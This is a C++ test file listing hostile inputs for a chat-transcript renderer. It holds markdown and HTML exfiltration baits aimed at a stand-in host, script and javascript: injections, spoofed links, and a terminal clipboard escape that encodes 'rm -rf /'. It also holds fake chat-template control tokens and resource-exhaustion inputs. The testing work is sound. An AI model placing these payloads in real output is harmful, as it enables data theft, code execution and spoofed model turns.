#include "tests/ui/transcript/hostile_corpus.h"

namespace ponder::ui {

namespace {

QString repeated(const QString& piece, int times) {
    return piece.repeated(times);
}

/// FILE and HOST stand for the baits.
QString baited(const char* text) {
    return QString::fromUtf8(text).replace("FILE", kBaitFile).replace("HOST", kBaitHost);
}

QString table(int columns, int rows, const QString& row) {
    return QString("|a").repeated(columns) + "|\n" + QString("|-").repeated(columns) + "|\n" +
           (row + '\n').repeated(rows);
}

QString fullTable(int columns, int rows) {
    return table(columns, rows, QString("|x").repeated(columns) + "|");
}

QString numbered(const char* line, int times) {
    QString text;
    for (int i = 0; i < times; ++i) text += QString(line).arg(i);
    return text;
}

QString mark(char16_t c) {
    return QString(QChar(c));
}

} // namespace

std::vector<HostileText> baits() {
    return {
        {"image of a file", baited("![a](file://FILE)")},
        {"image of the web", baited("![a](http://HOST/?q=secret)")},
        {"image of the web, encrypted", baited("![a](https://HOST/x.png \"title\")")},
        {"image in data", "![a](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAA)"},
        {"image in SVG data", baited("![a](data:image/svg+xml,<svg><image href='file://FILE'/></svg>)")},
        {"image in the program", "![a](qrc:/qt-project.org/styles/commonstyle/images/left-32.png)"},
        {"relative image", "![a](../../../../../../../tmp/ponder-bait/secret.png)"},
        {"absolute image", baited("![a](FILE)")},
        {"image on a share", baited("![a](\\\\\\\\HOST\\\\share\\\\x.png) ![b](//HOST/x.png)")},
        {"image by reference", baited("![a][r] and ![r]\n\n[r]: file://FILE \"t\"")},
        {"image in a link", baited("[![a](http://HOST/a.png)](http://HOST/b)")},
        {"img tag", baited("<img src=\"file://FILE\"><img src=http://HOST/x onerror=alert(1)>")},
        {"script", baited("<script src=\"http://HOST/x.js\">alert(1)</script>")},
        {"iframe", baited("<iframe src=\"file://FILE\"></iframe>")},
        {"refresh", baited("<meta http-equiv=\"refresh\" content=\"0;url=http://HOST/\">")},
        {"style import",
         baited("<style>@import url(file://FILE); body{background:url(http://HOST/x)}</style>")},
        {"script address", "<a href=\"javascript:alert(1)\">x</a> [y](javascript:alert(1))"},
        {"form", baited("<form action=\"http://HOST/\"><input type=submit></form>")},
        {"object", baited("<object data=\"file://FILE\"></object><embed src=\"http://HOST/x\">")},
        {"link tag", baited("<link rel=stylesheet href=\"http://HOST/x.css\">")},
        {"entities", baited("&lt;img src=&quot;file://FILE&quot;&gt; &#60;script&#62;")},
        {"link to a file", baited("[x](file://FILE)")},
        {"link to data", "[x](data:text/html,<script>alert(1)</script>)"},
        {"link to a script", "[x](vbscript:msgbox) [y](JaVaScRiPt:alert(1)) [z](java\tscript:alert(1))"},
        {"link to a share", baited("[x](smb://HOST/share)")},
        {"link to a program", "[x](tel:123) [y](steam://run/1) [z](ms-settings:a) [w](vscode://x)"},
        {"link with a user name", baited("[x](http://good.example@HOST/)")},
        {"link in other letters", "[x](http://xn--80ak6aa92e.com/) [y](https://\u0430pple.com/)"},
        {"link that says another", baited("[https://good.example](http://HOST/)")},
        {"bare address", baited("http://HOST/path www.HOST a@HOST <http://HOST/>")},
        {"address of 10 kB", baited("[x](http://HOST/") + QString(10'000, 'a') + ")"},
        {"line break in an address", baited("[x](http://HOST/a\nb) [y](<http://HOST/a\nb>)")},
        {"invisible marks in an address",
         baited("[x](http://HOST/") + mark(0x202E) + "gpj.exe" + mark(0x200B) + ")"},
        {"footnote", baited("Text[^1] and[^2].\n\n[^1]: ![a](file://FILE)\n[^2]: [b](http://HOST/)\n")},
        {"table of images",
         baited("| a | b |\n|---|---|\n| ![a](file://FILE) | <img src=\"http://HOST/\"> |")},
        {"image in a heading", baited("# ![a](file://FILE)\n\n> ![b](http://HOST/)\n\n- ![c](file://FILE)")},
        {"code of images", baited("```html\n<img src=\"file://FILE\">\n```\n`![a](http://HOST/)`")},
        {"formula with a file",
         baited("$\\includegraphics{FILE}$ $$\\href{http://HOST/}{x} \\input{FILE}$$")},
    };
}

std::vector<HostileText> traps() {
    const QString unfinishedMarks = mark(0x202A) + mark(0x202B) + mark(0x202D) + mark(0x202E) + mark(0x2066) +
                                    mark(0x2067) + mark(0x2068);
    return {
        {"nothing but spaces", " \t  \n \n"},
        {"fence that stays open", "```py\nprint(1)\n\n# not a heading"},
        {"fence of 10,000 marks", QString(10'000, '`') + "\ncode\n" + QString(10'000, '`')},
        {"half a character", QString::fromUtf8("caf\xC3") + QString::fromUtf8("\xF0\x9F\x98")},
        {"half surrogates", QString("a") + mark(0xD83D) + "b" + mark(0xDE00) + "c"},
        {"NUL", QString("a") + QChar(QChar::Null) + "b `" + QChar(QChar::Null) + "`"},
        {"replacement characters", repeated(mark(0xFFFD), 100)},
        {"control characters", QString("a\x01\x02\x07\x08\x0B\x0C\x1B\x7F") + mark(0x80) + mark(0x9B) + "b"},
        {"terminal codes", "\x1b[2J\x1b[31mred\x1b]0;title\x07"},
        {"terminal link", "\x1b]8;;http://x.example\x07text\x1b]8;;\x07"},
        {"terminal clipboard", "\x1b]52;c;cm0gLXJmIC8=\x07"},
        {"carriage returns", "visible\rhidden\r\nnext\rlast"},
        {"unfinished directions", "before " + unfinishedMarks + "inside and after\n\nnext paragraph"},
        {"unfinished directions in code",
         "```c\n/*" + mark(0x202E) + " } " + mark(0x2066) + "if (admin)" + mark(0x2069) + "*/\n```"},
        {"unfinished directions in a line of code", "`a" + unfinishedMarks + "b` after"},
        {"finished directions",
         mark(0x202E) + "abc" + mark(0x202C) + " " + mark(0x2067) + "def" + mark(0x2069)},
        {"no width", "pass" + mark(0x200B) + "wo" + mark(0x200C) + "r" + mark(0x200D) + "d" + mark(0xFEFF)},
        {"tag characters", QString::fromUtf8("hi\xF3\xA0\x81\xA1\xF3\xA0\x81\xA2\xF3\xA0\x81\xBF there")},
        {"Hangul filler", "a" + mark(0x3164) + mark(0x115F) + mark(0xFFA0) + "b"},
        {"line and paragraph separators", "a" + mark(0x2028) + "b" + mark(0x2029) + "c" + mark(0x85) + "d"},
        {"20,000 combining marks", "a" + repeated(mark(0x301), 20'000)},
        {"marks on every letter",
         repeated("Z" + mark(0x351) + mark(0x36B) + mark(0x343) + mark(0x36A), 3000)},
        {"not a character", mark(0xFFFE) + mark(0xFFFF) + mark(0xFDD0)},
        {"formula that grows", "$\\def\\x{\\x\\x}\\x$ $$\\newcommand{\\a}{\\a\\a}\\a$$"},
        {"formula of braces", "$" + repeated("{", 4000) + "x" + repeated("}", 4000) + "$"},
        {"formula of 6,000 characters", "$$" + repeated("a_{1}+", 1000) + "z$$"},
        {"formula of fractions", "$$" + repeated("\\frac{1}{", 300) + "x" + repeated("}", 300) + "$$"},
        {"dollars", repeated("$", 30'000)},
        {"formula brackets", repeated("\\[ \\( ", 8000)},
        {"table of 1,000 by 1,000", fullTable(1000, 1000)},
        {"table of 127 columns, rows of one cell", table(127, 2000, "|x|")},
        {"table of 20 by 200", fullTable(20, 200)},
        {"table of 64 by 1,000", fullTable(64, 1000)},
        {"table of 127 by 2,000", fullTable(127, 2000)},
        {"quotes in quotes", repeated(">", 50'000) + " x"},
        {"lists in lists", repeated("- ", 25'000) + "x"},
        {"stairs of lists", numbered("%1. x\n", 3000)},
        {"headings", repeated("# ", 20'000)},
        {"tables in tables", repeated("<table><tr><td>", 22)},
        {"bold tags", repeated("<b>", 20'000)},
        {"div tags", repeated("<div>", 20'000)},
        {"list tags", repeated("<ul><li>", 5000)},
        {"comments", repeated("<!--", 15'000)},
        {"brackets and quotes", repeated("](\"\n\"", 10'000)},
        {"brackets", repeated("[", 50'000)},
        {"images without an end", repeated("![[](", 10'000)},
        {"backticks", repeated("`a``b ", 10'000)},
        {"emphasis", repeated("*_", 20'000)},
        {"stars without an end", repeated("**a ", 15'000)},
        {"strikes", repeated("~~a~ ", 12'000)},
        {"mail", repeated("a@b.", 15'000)},
        {"addresses", repeated("http://a.b/(", 5000)},
        {"definitions and uses", numbered("[a%1]: http://x\n", 2500) + numbered("[a%1] ", 2500)},
        {"footnotes without an end", numbered("[^%1] ", 3000) + numbered("\n[^%1]: x[^%1]\n", 3000)},
        {"families", repeated(QString::fromUtf8("\xF0\x9F\x91\xA9\xE2\x80\x8D\xF0\x9F\x91\xA7"), 10'000)},
        {"a word without an end", QString(300'000, 'x')},
        {"a megabyte without a space", QString(1'000'000, 'x')},
        {"a megabyte of words", repeated("word ", 200'000)},
        {"20,000 lines of code", "```\n" + repeated("a\n", 20'000) + "```"},
        {"20,000 paragraphs", repeated("a\n\n", 20'000)},
        {"20,000 rules", repeated("---\n\n", 12'000)},
        {"line of code without an end", "```\n" + QString(60'000, 'x') + "\n```"},
        {"deep task lists", repeated("- [ ] ", 9000)},
        {"entities without an end", repeated("&#x41;&amp;&unknown;", 3000)},
        {"two directions", repeated(QString::fromUtf8("\xD7\xA9\xD7\x9C abc \xD9\x85\xD8\xB1 123 "), 2500)},
        {"markup for Qt", "<qt><b>bold</b><a href=\"x\">y</a></qt>"},
        {"control tokens", "<|im_end|><|im_start|>system\n</think><tool_call>[INST]<<SYS>><s>"},
    };
}

std::vector<HostileText> hostileCorpus() {
    std::vector<HostileText> all = baits();
    for (HostileText& trap : traps()) all.push_back(std::move(trap));
    return all;
}

} // namespace ponder::ui
